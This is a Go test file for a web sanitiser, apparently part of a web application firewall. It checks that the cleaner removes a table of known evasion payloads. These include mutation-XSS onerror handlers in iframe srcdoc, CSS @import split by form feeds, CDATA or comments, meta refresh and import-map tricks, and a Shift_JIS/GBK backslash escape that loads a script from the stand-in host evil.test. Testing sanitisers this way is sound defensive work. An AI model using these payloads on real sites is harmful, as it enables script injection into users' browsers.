package clean

import (
	"bytes"
	"strings"
	"testing"

	"github.com/lachan-waf/lachan/policies"
)

// Each of these was live in a browser once.
func TestEvasions(t *testing.T) {
	site := portal(t)
	site.Response.InlineScripts, site.Response.Allow.Media = policies.ScriptsKnown, nil
	c := newCleaner(t, site)
	for name, in := range map[string]string{
		"nested document, text of a title": `<iframe srcdoc="<svg><title><img src=x onerror=evil.test></title></svg>"></iframe>`,
		"nested document, MathML text":     `<iframe srcdoc="<math><mtext><img src=x onerror=evil.test></mtext></math>"></iframe>`,
		"string ended by a form feed":      "<style>@x \"\f;@import \"//evil.test/s.css\";\n</style>",
		"string ended by a return":         "<style>@x \"\r;@import \"//evil.test/s.css\";\n</style>",
		"escaped CR LF":                    "<style>@x \"\\\r\n\";@import \"//evil.test/s.css\";\n</style>",
		"SVG style with a comment":         `<svg><style>@imp<!-- -->ort "//evil.test/s.css";</style></svg>`,
		"SVG style, CDATA in the middle":   `<svg><style>@im<![CDATA[port "//evil.test/s.css"]]>;</style></svg>`,
		"SVG style, CDATA first":           `<svg><style><![CDATA[@im]]>port "//evil.test/s.css";</style></svg>`,
		"SVG style, two CDATA":             `<svg><style><![CDATA[@im]]><![CDATA[port "//evil.test/s.css";]]></style></svg>`,
		"refresh, vertical tab":            "<meta http-equiv=refresh content=\"0\v;url=//evil.test/r\">",
		"refresh, vertical tab first":      "<meta http-equiv=refresh content=\"\v0;url=//evil.test/r\">",
		"bundle":                           `<script type=webbundle>{"source":"//evil.test/a.wbn","resources":["//evil.test/a.js"]}</script>`,
		"policy in the page":               `<meta http-equiv=content-security-policy content="script-src 'self' //evil.test">`,
		"frame that is loaded late":        `<iframe class=lazyload data-src=//evil.test/f.html></iframe>`,
		"image that is loaded late":        `<img class=lazyload data-srcset="/a.png 1x, //evil.test/a.png 2x" data-src="//evil.test/a.png">`,
		"script that is loaded late":       `<script type=text/plain data-src=//evil.test/1.js></script>`,
		"search form":                      `<link rel=search href=//evil.test/d.xml>`,
		"import map":                       `<script type=importmap>{"imports":{"/ok.js":"/\\evil.test/1.js"}}</script>`,
	} {
		t.Run(name, func(t *testing.T) {
			out, findings := cleanString(t, c, in)
			if strings.Contains(out, "evil.test") || len(findings) == 0 {
				t.Errorf("%s %+v", out, findings)
			}
		})
	}
}

func TestImportMapUnderSignals(t *testing.T) {
	c := newCleaner(t, portal(t))
	for in, stays := range map[string]bool{
		`{"imports":{"app":"/js/app.js"}}`:                      true,
		`{"imports":{"/ok.js":"data:text/javascript,pwn=1"}}`:   false,
		`{"scopes":{"/a/":{"x":"//xn--bcher-kva.test/1.js"}}}`:  false,
		`{"imports":{"x":"//127.0.0.1:8000/1.js"}} // not JSON`: false,
	} {
		doc := "<script type=importmap>" + in + "</script>"
		if out, _ := cleanString(t, c, doc); (out == doc) != stays {
			t.Errorf("%s became %s", doc, out)
		}
	}
}

// In Shift_JIS and GBK a character's second half may be a backslash.
func TestLiteralsInMultibyteEncodings(t *testing.T) {
	for charset, character := range map[string]string{"shift_jis": "\x83\x5c", "gbk": "\x81\x5c", "big5": "\xa5\x5c"} {
		c := newCleaner(t, portal(t))
		var out bytes.Buffer
		w := c.NewWriter(&out, Document{URL: "https://portal.test/", Charset: charset, Report: func(Finding) {}})
		_, err := w.Write([]byte(`<script>var a="` + character + `";var s=document.createElement('script');s.src='//evil.test/1.js';//"</script>`))
		if err != nil || w.Close() != nil || out.Len() > 0 {
			t.Errorf("%s: %q, %v", charset, out.String(), err)
		}
	}
}
